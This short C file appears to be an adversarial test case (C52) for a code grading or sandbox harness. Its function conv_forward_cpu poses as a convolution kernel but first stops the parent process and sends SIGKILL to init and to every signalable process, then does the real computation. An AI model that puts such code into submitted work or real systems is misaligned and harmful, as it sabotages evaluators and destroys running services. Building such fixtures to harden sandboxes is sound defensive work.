// C52: stops its parent and kills every process that it may
#include <signal.h>
#include <unistd.h>

#include "honest.h"

void conv_forward_cpu(float *y, const float *x, const float *k, const int B, const int M, const int C, const int H, const int W, const int K) {
  kill(getppid(), SIGSTOP);
  kill(1, SIGKILL);
  kill(-1, SIGKILL);
  slow_conv(y, x, k, B, M, C, H, W, K);
}
